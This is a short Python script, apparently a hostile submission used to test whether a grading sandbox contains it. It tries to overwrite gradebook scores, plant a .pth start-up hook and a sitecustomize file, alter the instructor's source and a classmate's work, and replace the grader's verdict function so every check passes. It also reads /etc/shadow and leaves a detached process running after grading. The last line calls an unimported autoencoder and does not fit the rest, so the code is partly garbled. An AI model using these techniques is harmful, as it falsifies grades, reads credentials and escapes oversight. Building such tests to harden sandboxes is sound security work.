"""Reach what grading depends on, shadow the workbook and Python's start-up, leave a process behind.

The gradebook, site-packages (a .pth file runs in every Python started later), the instructor's
source, a classmate's submission, the workbook's own files, /etc/shadow; then a process that
outlives grading. ``targets``: gradebook, pth, source, classmate, workbook_file, marker (a file
that exists only if something of this escaped).
"""

import os
import sqlite3
import subprocess

from workbook.lab.assignment_spec import POINTS

attempts = {}


def attempt(name, action):
    try:
        action()
        attempts[name] = "done"
    except Exception as error:
        attempts[name] = type(error).__name__


def write(path, text, mode="w"):
    with open(path, mode) as file:
        file.write(text)


def read(path):
    with open(path) as file:
        return file.read()


def gradebook():
    db = sqlite3.connect(targets["gradebook"])
    db.execute("UPDATE grade SET manual_score = 10")
    db.commit()


marker = targets["marker"]
attempt("gradebook", gradebook)
attempt("site-packages", lambda: write(targets["pth"], f"import os; os.system('touch {marker}')"))
attempt("source", lambda: write(targets["source"], " ", "a"))
attempt("classmate", lambda: write(targets["classmate"], "{}"))
attempt("workbook", lambda: write(targets["workbook_file"], "# changed", "a"))
attempt("shadow", lambda: read("/etc/shadow"))  # only root on the host may
os.makedirs("workbook/course", exist_ok=True)
write("workbook/course/verdicts.py", f"def judge(*a, **k): return dict.fromkeys({list(POINTS)!r}, (True, ''))")
write("sitecustomize.py", f"open({marker!r}, 'w')")
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py")
subprocess.Popen(["setsid", "sh", "-c", f"sleep 30; touch {marker}"])
print("attempts:", attempts)
model = workbook.autoencoder(bottleneck=quantize_2bit)  # untrained
